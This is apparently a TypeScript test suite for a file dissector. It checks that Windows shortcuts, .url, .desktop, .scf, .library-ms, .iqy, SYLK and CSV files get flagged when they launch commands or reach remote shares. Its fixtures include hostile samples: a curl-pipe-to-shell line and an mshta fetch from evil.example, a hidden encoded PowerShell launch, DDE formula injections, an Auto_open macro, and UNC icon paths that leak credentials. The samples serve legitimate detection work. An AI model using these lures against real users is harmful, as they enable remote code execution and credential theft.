import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { memoryBytes } from '../../src/mail/bytes.ts';
import type { Part } from '../../src/mail/part.ts';
import { contentOf, flagNames, testDissector } from '../support/dissecting.ts';
import { EICAR } from '../support/eicar.ts';
import { type ShellLinkDraft, shellLink } from '../support/shell-link.ts';

const dissector = await testDissector();

async function read(content: Buffer | string): Promise<readonly [Part, ...Part[]]> {
  const { root, parts } = await dissector.dissectFile(memoryBytes(Buffer.from(content)), 'file');
  return [root, ...parts.slice(1)];
}

const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const urlsOf = (part: Part) =>
  part.links().map(({ url, source }) => (source === 'shortcut' ? url : `${source} ${url}`));

describe('a shortcut of Windows', () => {
  const cases: readonly (readonly [what: string, draft: ShellLinkDraft, flags: readonly string[]])[] = [
    ['that leads to a document', { localPath: 'C:\\Users\\anna\\plan.docx', name: 'Plan' }, []],
    ['that leads to a share of the house', { share: '\\\\files\\plans', relativePath: '..\\plan.docx' }, []],
    [
      'that runs PowerShell',
      { localPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: '-w hidden -enc SQBFAFgA' },
      ['command'],
    ],
    [
      'whose target is only an item list',
      { items: ['C:\\', 'Windows', 'System32', 'cmd.exe'], args: '/c calc' },
      ['command'],
    ],
    ['whose target is only in the environment', { environment: '%ComSpec%', args: '/c calc' }, ['command']],
    [
      'that hands a command to Explorer',
      { localPath: 'C:\\Windows\\explorer.exe', args: 'x.docx & mshta https://evil.example/x' },
      ['command'],
    ],
    ['that hides its arguments behind blanks', { localPath: 'C:\\tool', args: `${' '.repeat(300)}x` }, ['command']],
    ['that starts a script beside it', { relativePath: '.\\run.js' }, ['command']],
    ['in the code page of its system', { ansi: true, relativePath: 'cmd.exe', args: '/c calc' }, ['command']],
    ['on a server of the Internet', { share: '\\\\evil.example@SSL\\DavWWWRoot', name: 'Plan' }, ['remote']],
    ['whose icon lies there', { localPath: 'C:\\plan.docx', icon: '\\\\203.0.113.9\\x\\i.ico' }, ['remote']],
  ];
  for (const [what, draft, flags] of cases) {
    it(`${what}: ${flags.join(', ') || 'nothing'}`, async () => {
      const [root] = await read(shellLink(draft));
      assert.equal(root.detectedType, 'application/x-ms-shortcut');
      assert.deepEqual(
        flagNames(root),
        flags.map((flag) => `active:shortcut-${flag}`),
      );
    });
  }

  it('is told as text, with its addresses', async () => {
    const draft = {
      environment: '%windir%\\system32\\mshta.exe',
      args: 'https://evil.example/a.hta',
      name: 'Überweisung',
      workingFolder: 'C:\\Temp',
      icon: 'shell32.dll',
      machine: 'desktop-77',
    };
    const [root] = await read(shellLink(draft));
    for (const value of Object.values(draft)) assert.ok(root.text()?.includes(value), root.text() ?? '');
    assert.deepEqual(urlsOf(root), ['https://evil.example/a.hta']);
  });

  it('gives what stands behind its end', async () => {
    const [root, behind] = await read(shellLink({ localPath: 'C:\\plan.docx', behind: Buffer.from(EICAR) }));
    assert.deepEqual(flagNames(root), ['active:shortcut-overlay']);
    assert.deepEqual([behind?.origin, behind && contentOf(behind).toString()], ['extracted', EICAR]);
    assert.deepEqual(flagNames((await read(shellLink({ localPath: 'C:\\x.docx', behind: Buffer.alloc(9) })))[0]), []);
  });

  it('may be cut anywhere', async () => {
    const whole = shellLink({ items: ['a'], localPath: 'C:\\x', args: 'y', environment: 'z', machine: 'm' });
    for (let end = 20; end < whole.length; end += 3) {
      const [root] = await read(whole.subarray(0, end));
      assert.ok(!flagNames(root).includes('unknown:reader-failed'), `${end}`);
    }
    assert.deepEqual(flagNames((await read(whole.subarray(0, 90)))[0]), ['corrupt:shortcut-damaged']);
  });
});

const INTERNET = '[InternetShortcut]\r\n';
const DESKTOP = '[Desktop Entry]\nName=x\n';
const plist = (url: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x">\n<plist version="1.0"><dict><key>URL</key><string>${url}</string></dict></plist>`;
const library = (place: string) =>
  `<?xml version="1.0"?><!-- x --><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>${place}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`;
const binaryPlist = (url: string) =>
  Buffer.concat([
    Buffer.from(`bplist00\xd1\x01\x02SURL_\x10${String.fromCharCode(url.length)}${url}`, 'latin1'),
    Buffer.alloc(40),
  ]);

describe('a file that is text and a link', () => {
  const cases: readonly (readonly [
    what: string,
    content: Buffer | string,
    type: string,
    flags: readonly string[],
    urls: readonly string[],
  ])[] = [
    [
      '.url',
      `${INTERNET}URL=https://example.com/a\r\nIconFile=https://example.com/favicon.ico\r\n`,
      'text/x-mswinurl',
      [],
      ['https://example.com/a', 'https://example.com/favicon.ico'],
    ],
    [
      '.url in UTF-16',
      utf16(`${INTERNET}URL=https://example.com/a\r\n`),
      'text/x-mswinurl',
      [],
      ['https://example.com/a'],
    ],
    [
      '.url behind other lines',
      `x\r\n; y\r\n [internetshortcut]\r\nurl=https://example.com/a`,
      'text/x-mswinurl',
      [],
      ['https://example.com/a'],
    ],
    [
      '.website',
      `[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n${INTERNET}URL=https://example.com/a`,
      'text/x-mswinurl',
      [],
      ['https://example.com/a'],
    ],
    [
      '.url to a program on a share',
      `${INTERNET}URL=file://203.0.113.9/x/run.exe`,
      'text/x-mswinurl',
      ['active:shortcut-remote', 'active:shortcut-command'],
      ['file://203.0.113.9/x/run.exe'],
    ],
    [
      '.url to WebDAV',
      `${INTERNET}URL=\\\\evil.example@80\\x\\plan`,
      'text/x-mswinurl',
      ['active:shortcut-remote'],
      ['\\\\evil.example@80\\x\\plan'],
    ],
    [
      '.url with its icon on a share',
      `${INTERNET}URL=https://example.com/\r\nIconFile=\\\\203.0.113.9\\i.ico`,
      'text/x-mswinurl',
      ['active:shortcut-remote'],
      ['https://example.com/', '\\\\203.0.113.9\\i.ico'],
    ],
    [
      '.url to a scheme of some program',
      `${INTERNET}URL=search-ms:query=x&crumb=location:evil`,
      'text/x-mswinurl',
      ['active:shortcut-command'],
      ['search-ms:query=x&crumb=location:evil'],
    ],
    [
      '.desktop to a page',
      `${DESKTOP}Type=Link\nURL=https://example.com/a\n`,
      'text/x-desktop',
      [],
      ['https://example.com/a'],
    ],
    [
      '.desktop with a command',
      `${DESKTOP}Type=Application\nExec=sh -c "curl https://evil.example/x | sh"\n`,
      'text/x-desktop',
      ['active:shortcut-command'],
      ['https://evil.example/x'],
    ],
    [
      '.scf',
      '[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\x\\i.ico\r\n',
      'text/x-scf',
      ['active:shortcut-remote'],
      ['\\\\203.0.113.9\\x\\i.ico'],
    ],
    [
      '.webloc',
      plist('https://example.com/?a=1&amp;b=2'),
      'application/x-plist+xml',
      [],
      ['https://example.com/?a=1&b=2'],
    ],
    [
      '.fileloc',
      plist('file:///System/Applications/Calculator.app'),
      'application/x-plist+xml',
      ['active:shortcut-command'],
      ['file:///System/Applications/Calculator.app'],
    ],
    ['.webloc in binary', binaryPlist('https://example.com/a'), 'application/x-bplist', [], ['https://example.com/a']],
    [
      '.library-ms',
      library('\\\\evil.example\\x'),
      'application/x-ms-library+xml',
      ['active:shortcut-remote'],
      ['\\\\evil.example\\x'],
    ],
    ['.library-ms of the house', library('\\\\files\\x'), 'application/x-ms-library+xml', [], ['\\\\files\\x']],
    [
      '.searchConnector-ms',
      library('https://evil.example@SSL/x').replaceAll('libraryDescription', 'searchConnectorDescription'),
      'application/x-ms-library+xml',
      [],
      ['https://evil.example@SSL/x'],
    ],
    [
      '.settingcontent-ms',
      '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
      'application/x-ms-settingcontent+xml',
      ['active:shortcut-command'],
      [],
    ],
    [
      '.iqy',
      'WEB\r\n1\r\nhttp://evil.example/q\r\n\r\n',
      'text/x-ms-iqy',
      ['active:web-query'],
      ['http://evil.example/q'],
    ],
    [
      '.slk with DDE',
      "ID;PWXL;N;E\r\nC;Y1;X1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!A1\r\nE\r\n",
      'text/x-sylk',
      ['active:dde'],
      [],
    ],
    [
      '.slk with a macro sheet',
      'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc.exe")\nE\n',
      'text/x-sylk',
      ['active:xlm-macro'],
      [],
    ],
    ['.slk with numbers', 'ID;PWXL;N;E\nC;Y1;X1;K12\nC;Y2;X1;K24;E2*R[-1]C\nE\n', 'text/x-sylk', [], []],
    ['.csv with DDE', 'a,b\n1,"=cmd|\'/c calc\'!A0"\n', 'text/csv', ['active:dde'], []],
    [
      '.csv with DDE far down',
      `${'a,b\n'.repeat(5000)}1,@SUM(1+1)*cmd|' /C calc'!A0\n`,
      'text/csv',
      ['active:dde'],
      [],
    ],
    ['.csv in UTF-16 with DDE', utf16("a\tb\n1\t+cmd|'/c calc'!A0\n"), 'text/csv', ['active:dde'], []],
    ['.csv with formulas', 'a,b\n1,=A1+2\n-3,"=SUM(A1:A2)"\n', 'text/plain', [], []],
    [
      'a text with bars',
      '- press y|n!\nEither a|b!c is fine\n---|---\n| a | -b!c |\nls | sort\n',
      'text/plain',
      [],
      [],
    ],
  ];
  for (const [what, content, type, flags, urls] of cases) {
    it(`${what}: ${flags.join(', ') || 'nothing'}`, async () => {
      const [root] = await read(content);
      assert.deepEqual([root.detectedType, flagNames(root)], [type, flags]);
      assert.deepEqual(
        urlsOf(root).filter((url) => !url.startsWith('text ')),
        urls,
      );
    });
  }

  it('is no page of HTML, no mail and no body, whatever words it quotes', async () => {
    assert.equal((await read(`<html><!--\n${INTERNET}--></html>`))[0].detectedType, 'text/html');
    const [asFile] = await read(`From: a@example.com\nTo: b@example.com\nSubject: x\n\n${INTERNET}`);
    assert.deepEqual([asFile.origin, asFile.detectedType], ['mail', 'text/plain']);
    const mail = `From: a@example.com\r\nTo: b@example.com\r\n\r\n${INTERNET}URL=x:y\r\n`;
    const { root } = await dissector.dissectMail(memoryBytes(Buffer.from(mail)));
    assert.deepEqual([root.detectedType, root.flags], ['text/plain', []]);
  });

  it('is looked through in linear time', { timeout: 60_000 }, async () => {
    const size = 1 << 20;
    for (const piece of [
      '|',
      'a|',
      '=a|',
      "=a|'b",
      '=a|b!',
      '[Shell]\n',
      '[a',
      '<!--',
      '<?',
      '<plist ',
      'C;E',
      'ID;P\nC;',
      `${INTERNET}=\n`,
    ]) {
      const [root] = await read(piece.repeat(size / piece.length));
      assert.ok(!flagNames(root).includes('unknown:reader-failed'), piece);
    }
  });
});
